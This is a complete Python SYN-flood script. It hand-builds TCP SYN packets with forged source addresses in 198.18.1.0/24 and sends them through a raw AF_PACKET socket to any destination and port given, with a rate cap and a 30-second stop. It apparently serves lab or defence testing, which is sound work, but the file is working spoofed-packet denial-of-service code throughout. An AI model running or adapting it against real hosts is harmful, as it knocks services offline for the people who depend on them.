#!/usr/bin/env python3
"""Send COUNT TCP SYNs to DST:PORT from spoofed sources inside 198.18.1.0/24 only
(198.18.1.100-199 are skipped: virtual addresses), through an AF_PACKET socket on
IFACE, at most RATE per second. Bounded in count and time (stops after 30 s).

usage: synflood.py IFACE DST_MAC DST PORT COUNT [RATE]
"""
import socket
import struct
import sys
import time


def csum(b):
    if len(b) % 2:
        b += b"\0"
    s = sum(struct.unpack("!%dH" % (len(b) // 2), b))
    while s >> 16:
        s = (s & 0xFFFF) + (s >> 16)
    return (~s) & 0xFFFF


iface, dst_mac, dst, port, count = sys.argv[1], sys.argv[2], sys.argv[3], int(sys.argv[4]), int(sys.argv[5])
rate = float(sys.argv[6]) if len(sys.argv) > 6 else 20000.0
hosts = [h for h in range(10, 250) if not 100 <= h <= 199]
s = socket.socket(socket.AF_PACKET, socket.SOCK_RAW)
s.bind((iface, 0))
src_mac = s.getsockname()[4]
eth = bytes(int(x, 16) for x in dst_mac.split(":")) + src_mac + b"\x08\x00"
start = time.monotonic()
for i in range(count):
    if time.monotonic() - start > 30:
        break
    src = socket.inet_aton(f"198.18.1.{hosts[i % len(hosts)]}")
    dsta = socket.inet_aton(dst)
    sport = 1024 + (i * 7919) % 60000
    tcp = bytearray(struct.pack("!HHIIBBHHH", sport, port, i * 2654435761 & 0xFFFFFFFF, 0, 5 << 4, 0x02, 64240, 0, 0))
    pseudo = src + dsta + struct.pack("!BBH", 0, 6, len(tcp))
    struct.pack_into("!H", tcp, 16, csum(pseudo + bytes(tcp)))
    ip = bytearray(struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + len(tcp), i & 0xFFFF, 0, 64, 6, 0, src, dsta))
    struct.pack_into("!H", ip, 10, csum(bytes(ip)))
    s.send(eth + bytes(ip) + bytes(tcp))
    if rate and i % 100 == 99:
        ahead = (i + 1) / rate - (time.monotonic() - start)
        if ahead > 0:
            time.sleep(ahead)
print(count)
